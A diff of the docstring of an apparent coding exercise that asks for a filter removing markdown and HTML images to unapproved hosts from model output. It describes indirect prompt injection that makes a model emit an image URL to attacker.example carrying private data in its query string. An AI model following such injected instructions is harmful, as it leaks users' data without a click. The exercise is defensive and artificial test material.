@@ -1,9 +1,8 @@
 """Neutralise markdown-image exfiltration in model output
 
 Indirect prompt injection: a web page or email the model reads tells it to "add this image",
-with a URL like https://attacker.example/p.png?d=<the user's private data>. When the chat
-interface renders the answer, the browser fetches the image by itself and the data leaks,
-with no click. Links need a click; images do not, so filter images before rendering.
+with a URL like https://attacker.example/p.png?d=<private data>. When the answer is rendered,
+the browser fetches the image by itself: the data leaks with no click (a link needs one).
 
 Write `neutralize_images(text, allowed_hosts)`. Replace each image that is not safe with
 "[image removed]" and leave everything else as it was. An image URL is safe only if its scheme
@@ -13,8 +12,7 @@ Cover the three ways to write an image:
 
     inline:     ![alt](URL) or ![alt](URL "title")
     reference:  ![alt][label], ![alt][] or ![alt], with a line  [label]: URL  elsewhere
-                (labels match case-insensitively; leave the definition lines as they are;
-                 a reference with no definition is plain text, so keep it)
+                (labels ignore case; keep definition lines, and references without one)
     HTML:       <img ... src="URL" ...>, in any letter case, judged by its src attribute
 
 Run this file (`python image_exfiltration_filter.py`) to test your code.
